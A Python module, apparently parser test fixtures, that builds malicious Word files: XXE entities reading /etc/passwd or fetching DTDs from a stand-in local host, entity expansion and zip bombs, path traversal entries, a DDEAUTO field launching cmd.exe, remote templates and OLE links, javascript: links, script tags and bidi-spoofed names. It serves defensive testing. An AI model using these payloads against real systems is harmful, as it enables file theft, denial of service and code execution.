"""Word documents that mean harm, each built byte by byte as an attacker would."""

import struct
import zipfile
import zlib
from io import BytesIO

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
TYPES = (
    f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>'
)
# Nobody listens there; whoever fetches it opens a socket first.
ELSEWHERE = "http://127.0.0.1:9/stolen"
SCRIPT = "<script>alert(1)</script>"


def paragraph(text: str, style: str = "") -> str:
    """One paragraph of WordprocessingML."""
    look = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f'<w:p>{look}<w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def document(body: str, prolog: str = HEAD) -> str:
    """The main part with that body."""
    return f'{prolog}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'


def relations(*rows: tuple[str, str, str, bool]) -> str:
    """What the main part refers to: identifier, kind, target, elsewhere?"""
    said = "".join(
        f'<Relationship Id="{name}" Type="{R}/{kind}" Target="{target}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if external else ''}/>"
        for name, kind, target, external in rows
    )
    return f'{HEAD}<Relationships xmlns="{RELS}">{said}</Relationships>'


def packed(
    parts: dict[str, str | bytes], *, types: str = TYPES, how: int = zipfile.ZIP_DEFLATED
) -> bytes:
    """A DOCX of those parts."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, content in {"[Content_Types].xml": types, **parts}.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx(body: str, more: dict[str, str | bytes] | None = None) -> bytes:
    """A DOCX with that body and more parts."""
    return packed({"word/document.xml": document(body), **(more or {})})


FILLER = paragraph("გზავნილი", "Heading1")


def billion_laughs() -> bytes:
    """Entities that double ten times."""
    rows = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
    prolog = f'{HEAD}<!DOCTYPE lolz [<!ENTITY l0 "ha">{rows}]>'
    return packed({"word/document.xml": document(paragraph("&l9;"), prolog)})


def quadratic_blowup() -> bytes:
    """One long entity, named very often."""
    prolog = f'{HEAD}<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>'
    return packed({"word/document.xml": document(paragraph("&a;" * 50_000), prolog)})


def external_entity() -> bytes:
    """A file of the server read into the text."""
    prolog = f'{HEAD}<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    return packed({"word/document.xml": document(paragraph("&secret;"), prolog)})


def external_dtd() -> bytes:
    """Definitions fetched from elsewhere."""
    prolog = f'{HEAD}<!DOCTYPE w:document SYSTEM "{ELSEWHERE}.dtd">'
    return packed({"word/document.xml": document(FILLER, prolog)})


def parameter_entity() -> bytes:
    """A file sent away by way of definitions fetched from elsewhere."""
    prolog = f'{HEAD}<!DOCTYPE x [<!ENTITY % p SYSTEM "{ELSEWHERE}.dtd"> %p;]>'
    return packed({"word/document.xml": document(FILLER, prolog)})


def entity_in_utf16() -> bytes:
    """The same where no search for ASCII bytes finds it."""
    prolog = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "ha">]>'
    return packed({"word/document.xml": document(paragraph("&a;"), prolog).encode("utf-16")})


def entity_in_styles() -> bytes:
    """In a part beside the text."""
    styles = f'{HEAD}<!DOCTYPE x [<!ENTITY a "ha">]><w:styles xmlns:w="{W}">&a;</w:styles>'
    rels = relations(("s", "styles", "styles.xml", False))
    return docx(FILLER, {"word/_rels/document.xml.rels": rels, "word/styles.xml": styles})


def entity_in_relations() -> bytes:
    """In the part that names the others."""
    rels = f'{HEAD}<!DOCTYPE x [<!ENTITY a SYSTEM "{ELSEWHERE}">]><a>&a;</a>'
    return docx(FILLER, {"word/_rels/document.xml.rels": rels})


def utf7() -> bytes:
    """An encoding in which marks look like letters."""
    prolog = '<?xml version="1.0" encoding="UTF-7"?>'
    return packed({"word/document.xml": document(paragraph("+ADw-script+AD4-"), prolog)})


def bomb() -> bytes:
    """A gigabyte of nothing in a megabyte."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", document(FILLER))
        with archive.open("word/media/image1.png", "w") as part:
            for _ in range(300):
                part.write(bytes(1 << 20))
    return out.getvalue()


def nested_bomb() -> bytes:
    """Archives in archives in archives; harmless as long as nobody opens them."""
    inner = packed({"0": bytes(5_000_000)})
    for depth in range(5):
        inner = packed({f"{depth}/{at}.zip": inner for at in range(10)})
    return docx(FILLER, {"word/embeddings/inner.zip": inner})


def overlapping_bomb() -> bytes:
    """Many entries of a directory that name the same packed bytes (after Fifield, 2019)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packer.compress(bytes(20_000_000)) + packer.flush()
    crc, size = zlib.crc32(bytes(20_000_000)), 20_000_000
    names = [b"[Content_Types].xml", b"word/document.xml"]
    names += [b"word/x%d.xml" % at for at in range(500)]
    made = b""
    fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 33, crc, len(kernel), size)
    made += b"PK\x03\x04" + fields + struct.pack("<HH", len(names[0]), 0) + names[0] + kernel
    start = len(made)
    for name in names:
        made += b"PK\x01\x02" + struct.pack("<H", 20) + fields
        made += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<HHHHIIH", 0, 0, len(names), len(names), len(made) - start, start, 0)
    return made + b"PK\x05\x06" + end


def lying_sizes() -> bytes:
    """A directory that says the text is short."""
    whole = bytearray(packed({"word/document.xml": document("<w:p/>" * 400_000)}))
    at = whole.rfind(b"PK\x01\x02", 0, whole.rfind(b"word/document.xml"))
    whole[at + 24 : at + 28] = struct.pack("<I", 500)
    return bytes(whole)


def long_run() -> bytes:
    """Ten megabytes of quotation marks in one run; they pack badly enough to pass for text."""
    noise = "".join(chr(0x10D0 + (at * at + at // 7) % 33) + "&quot;&gt;" for at in range(900_000))
    return packed({"word/document.xml": document(paragraph(noise))}, how=zipfile.ZIP_STORED)


def million_paragraphs() -> bytes:
    """A million empty paragraphs."""
    return docx("<w:p/>" * 1_000_000)


def many_paragraphs() -> bytes:
    """Paragraphs with words, more than anybody reads."""
    return docx("".join(paragraph(f"აბზაცი {at}") for at in range(20_000)))


def deep_tables() -> bytes:
    """A hundred thousand tables inside each other."""
    return docx("<w:tbl><w:tr><w:tc>" * 100_000 + "</w:tc></w:tr></w:tbl>" * 100_000)


def deep_paragraphs() -> bytes:
    """A hundred thousand paragraphs inside each other."""
    return docx("<w:p>" * 100_000 + "</w:p>" * 100_000)


def many_cells() -> bytes:
    """A table of a hundred thousand cells."""
    row = f"<w:tr>{'<w:tc><w:p/></w:tc>' * 100}</w:tr>"
    return docx(f"<w:tbl>{row * 1000}</w:tbl>")


def style_circle() -> bytes:
    """Styles that are based on each other."""
    pairs = "".join(
        f'<w:style w:type="paragraph" w:styleId="{one}"><w:basedOn w:val="{two}"/></w:style>'
        for one, two in (("a", "b"), ("b", "a"))
    )
    rels = relations(("s", "styles", "styles.xml", False))
    styles = f'{HEAD}<w:styles xmlns:w="{W}">{pairs}</w:styles>'
    body = paragraph("წრე", "a")
    return docx(body, {"word/_rels/document.xml.rels": rels, "word/styles.xml": styles})


def remote_things() -> bytes:
    """A picture, a template, an object and a frame, all elsewhere."""
    blip = (
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/'
        'main" r:link="i"/></w:drawing></w:r><w:r><w:object r:id="o"/></w:r></w:p>'
    )
    rels = relations(
        ("i", "image", f"{ELSEWHERE}.png", True),
        ("t", "attachedTemplate", f"{ELSEWHERE}.dotm", True),
        ("o", "oleObject", f"{ELSEWHERE}.doc", True),
        ("f", "frame", "\\\\127.0.0.1\\share\\x", True),
        ("p", "styles", f"{ELSEWHERE}.xml", True),
        ("g", "settings", "settings.xml", False),
    )
    more = {
        "word/_rels/document.xml.rels": rels,
        "word/settings.xml": f'{HEAD}<w:settings xmlns:w="{W}"/>',
        "word/_rels/settings.xml.rels": relations(
            ("t", "attachedTemplate", f"{ELSEWHERE}.dotm", True)
        ),
    }
    return docx(FILLER + blip, more)


def remote_fields() -> bytes:
    """Fields that would include a file, run a program or fetch once they are updated."""
    body = FILLER
    for asked in (
        f'INCLUDEPICTURE "{ELSEWHERE}.png"',
        f'INCLUDETEXT "{ELSEWHERE}"',
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
        'HYPERLINK "javascript:alert(1)"',
    ):
        said = asked.replace('"', "&quot;")
        body += (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f"<w:r><w:instrText>{said}</w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>ნაჩვენები</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    return docx(body)


def chunk() -> bytes:
    """A web page with a script as part of the document."""
    rels = relations(("c", "aFChunk", "chunk.html", False))
    more = {"word/_rels/document.xml.rels": rels, "word/chunk.html": f"<html>{SCRIPT}</html>"}
    return docx(FILLER + '<w:altChunk r:id="c"/>', more)


def embedded_object() -> bytes:
    """An OLE object inside."""
    body = FILLER + "<w:p><w:r><w:object><x/></w:object><w:t>ობიექტი</w:t></w:r></w:p>"
    return docx(body, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(100)})


def embedded_program() -> bytes:
    """A program inside."""
    return docx(FILLER, {"word/embeddings/oleObject1.bin": b"MZ" + bytes(100)})


def macros() -> bytes:
    """A DOCX that is a DOCM."""
    return docx(FILLER, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def macro_type() -> bytes:
    """A DOCM that only changed its name."""
    types = TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled+xml")
    return packed({"word/document.xml": document(FILLER)}, types=types)


def path_traversal() -> bytes:
    """Entries that would land elsewhere when unpacked."""
    return docx(FILLER, {"../../../../tmp/owned.xml": "x"})


def traversal_in_relations() -> bytes:
    """A part that points out of the archive."""
    rels = relations(("s", "styles", "../../../../etc/passwd", False))
    return docx(FILLER, {"word/_rels/document.xml.rels": rels})


def twice_the_same() -> bytes:
    """Two parts of one name: what is checked would not be what is read."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", document(FILLER))
        archive.NameToInfo.clear()
        archive.writestr("word/document.xml", document(paragraph("სხვა")))
    return out.getvalue()


def evil_links() -> bytes:
    """Words that lead to scripts."""
    targets = [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html,x",
        "java&#9;script:alert(1)", "vbscript:x", "file:///etc/passwd", "\\\\host\\share",
        "//127.0.0.1:9/x", "http://a b", "https://x.ge/)](javascript:alert(1))",
    ]  # fmt: skip
    rels = relations(*((f"l{at}", "hyperlink", one, True) for at, one in enumerate(targets)))
    body = "".join(
        f'<w:p><w:hyperlink r:id="l{at}"><w:r><w:t>ბმული {at}</w:t></w:r></w:hyperlink></w:p>'
        for at in range(len(targets))
    )
    return docx(FILLER + body, {"word/_rels/document.xml.rels": rels})


def script_in_text() -> bytes:
    """Marks of HTML and of Markdown as words."""
    words = [
        SCRIPT, '<img src=x onerror="alert(1)">', "[x](javascript:alert(1))", "![x](http://x/y)",
        "<javascript:alert(1)>", "[a]: javascript:alert(1)", "# არა სათაური", "```", "| a | b |",
        "&lt;b&gt;", "**არა მუქი**", "> არა ციტატა", "    არა კოდი", "***", "1. არა სია",
    ]  # fmt: skip
    escaped = (one.replace("&", "&amp;").replace("<", "&lt;") for one in words)
    return docx(FILLER + "".join(paragraph(one) for one in escaped))


def unseen_letters() -> bytes:
    """Words turned round, words between which nothing is seen, tags beyond all letters."""
    said = "ანგარიში \u202egpj.exe\u202c ა\u200bბ\u2066გ\u2069\ufeff\U000e0041"
    return docx(FILLER + paragraph(said))


def in_utf16() -> bytes:
    """An honest document in another encoding."""
    prolog = '<?xml version="1.0" encoding="UTF-16"?>'
    content = document(FILLER + paragraph("უცხო კოდირება"), prolog).encode("utf-16")
    return packed({"word/document.xml": content})


def truncated() -> bytes:
    """The first half of a document."""
    whole = docx(FILLER * 50)
    return whole[: len(whole) // 2]


def spreadsheet() -> bytes:
    """An XLSX that calls itself a text."""
    return packed({"xl/workbook.xml": "<workbook/>"})


def not_xml() -> bytes:
    """A main part that is no XML."""
    return packed({"word/document.xml": b"\x00\x01\x02 not xml"})


def no_body() -> bytes:
    """A document without a text."""
    return packed({"word/document.xml": f'{HEAD}<w:document xmlns:w="{W}"/>'})
